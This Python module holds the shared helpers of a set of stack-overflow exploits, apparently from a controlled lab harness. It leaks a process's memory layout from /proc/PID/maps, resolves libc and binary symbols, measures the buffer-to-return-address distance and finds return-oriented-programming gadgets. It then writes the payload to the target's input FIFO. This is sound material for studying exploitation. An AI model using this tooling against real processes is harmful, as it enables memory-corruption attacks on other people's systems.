"""What the exploits share: the attacker's view of a running target.

The model: the attacker knows the program (it can study its own copy of the
binary and of libc offline, with binutils) and learns the memory layout of
ONE running process, here by reading /proc/PID/maps (this stands in for an
information leak). It talks to the process only through its standard
input, a FIFO.
"""

import argparse
import os
import re
import struct
import subprocess
import sys
import time

LIBC_RE = re.compile(r"/libc(?:\.so|-[0-9.]+\.so)")


def parse_args(description):
    ap = argparse.ArgumentParser(description=description)
    ap.add_argument("--pid", type=int, required=True,
                    help="process whose layout is leaked (/proc/PID/maps)")
    ap.add_argument("--binary", required=True,
                    help="the attacker's copy of the vulnerable program")
    ap.add_argument("--fifo", required=True,
                    help="the target's standard input")
    ap.add_argument("--marker", default="/tmp/chorus-attack-marker",
                    help="file the exploit tries to create")
    ap.add_argument("--timeout", type=float, default=10.0,
                    help="seconds to wait for the target to map libc")
    return ap.parse_args()


def die(msg):
    sys.stderr.write("exploit: %s\n" % msg)
    sys.exit(1)


def p64(value):
    return struct.pack("<Q", value & 0xFFFFFFFFFFFFFFFF)


class Layout:
    """Base addresses of the binary and of libc in one process."""

    def __init__(self, binary_base, libc_base, libc_path):
        self.binary_base = binary_base
        self.libc_base = libc_base
        self.libc_path = libc_path

    def __str__(self):
        return "binary at %#x, libc at %#x" % (self.binary_base, self.libc_base)


def read_maps(pid, binary):
    """Parse /proc/PID/maps; None until BINARY is executed and libc mapped."""
    exe = os.path.realpath(binary)
    try:
        with open("/proc/%d/maps" % pid) as f:
            lines = f.read().splitlines()
    except OSError as e:
        die("cannot read /proc/%d/maps: %s" % (pid, e))
    binary_base = libc_base = libc_path = None
    for line in lines:
        fields = line.split(None, 5)
        if len(fields) < 6:
            continue
        start = int(fields[0].split("-")[0], 16)
        offset = int(fields[2], 16)
        path = fields[5]
        if offset != 0:
            continue
        if path == exe and binary_base is None:
            binary_base = start
        elif LIBC_RE.search(path) and libc_base is None:
            libc_base, libc_path = start, path
    if binary_base is None or libc_base is None:
        return None
    return Layout(binary_base, libc_base, libc_path)


def leak_layout(args):
    """Poll the target's maps until the program runs with libc mapped."""
    deadline = time.monotonic() + args.timeout
    while True:
        layout = read_maps(args.pid, args.binary)
        if layout:
            sys.stderr.write("exploit: pid %d: %s\n" % (args.pid, layout))
            return layout
        if time.monotonic() > deadline:
            die("pid %d never showed %s with libc mapped" % (args.pid, args.binary))
        time.sleep(0.01)


def symbols(path, dynamic=False):
    """Symbol name -> offset, from nm (nm -D for a shared library)."""
    cmd = ["nm", "-D" if dynamic else "--defined-only", path]
    out = subprocess.run(cmd, capture_output=True, text=True, check=True).stdout
    syms = {}
    for line in out.splitlines():
        fields = line.split()
        if len(fields) == 3:
            name = fields[2].split("@")[0]
            syms.setdefault(name, int(fields[0], 16))
    return syms


def disassemble(path, function):
    """objdump's lines of FUNCTION: list of (offset, instruction text)."""
    out = subprocess.run(["objdump", "-d", "--no-show-raw-insn",
                          "--disassemble=" + function, path],
                         capture_output=True, text=True, check=True).stdout
    insns = []
    for line in out.splitlines():
        m = re.match(r"\s+([0-9a-f]+):\s+(.*)", line)
        if m:
            insns.append((int(m.group(1), 16), m.group(2).strip()))
    if not insns:
        die("no function %s in %s" % (function, path))
    return insns


def stack_frame(path, function):
    """For FUNCTION reading into a stack buffer (lea -N(%rbp) ... call read):
    the distance from the buffer to the saved return address, and the
    offset of FUNCTION's own `ret` instruction (a gadget that just returns)."""
    insns = disassemble(path, function)
    distance = ret = None
    buf = None
    for off, text in insns:
        m = re.match(r"lea\s+-0x([0-9a-f]+)\(%rbp\)", text)
        if m:
            buf = int(m.group(1), 16)
        if text.startswith("call") and "<read@plt>" in text and buf is not None:
            distance = buf + 8  # the buffer, then the saved rbp
        if text == "ret":
            ret = off
    if distance is None or ret is None:
        die("could not find the read into a stack buffer in %s" % function)
    return distance, ret


class Elf:
    """The loadable segments of an ELF file, to search bytes in."""

    def __init__(self, path):
        with open(path, "rb") as f:
            self.data = f.read()
        if self.data[:4] != b"\x7fELF" or self.data[4] != 2:
            die("%s is not a 64-bit ELF file" % path)
        phoff = struct.unpack_from("<Q", self.data, 0x20)[0]
        phentsize, phnum = struct.unpack_from("<HH", self.data, 0x36)
        self.segments = []  # (flags, file offset, vaddr, file size)
        for i in range(phnum):
            (ptype, flags, offset, vaddr, _paddr, filesz, _memsz,
             _align) = struct.unpack_from("<IIQQQQQQ", self.data, phoff + i * phentsize)
            if ptype == 1:  # PT_LOAD
                self.segments.append((flags, offset, vaddr, filesz))

    def find(self, needle, executable=False):
        """Virtual address (offset from the load base) of NEEDLE, or None."""
        for flags, offset, vaddr, filesz in self.segments:
            if executable and not flags & 1:  # PF_X
                continue
            i = self.data.find(needle, offset, offset + filesz)
            if i >= 0:
                return vaddr + (i - offset)
        return None


def send(fifo, data):
    """Write DATA to the target's standard input, in one write."""
    fd = os.open(fifo, os.O_WRONLY)
    try:
        os.write(fd, data)
    finally:
        os.close(fd)
    sys.stderr.write("exploit: sent %d bytes\n" % len(data))
